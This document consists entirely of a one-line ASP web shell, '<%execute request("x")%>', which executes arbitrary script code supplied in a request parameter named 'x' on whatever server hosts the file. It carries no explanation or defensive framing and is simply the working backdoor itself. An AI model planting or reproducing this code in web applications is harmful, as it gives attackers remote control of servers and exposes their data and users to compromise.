<%execute request("x")%>
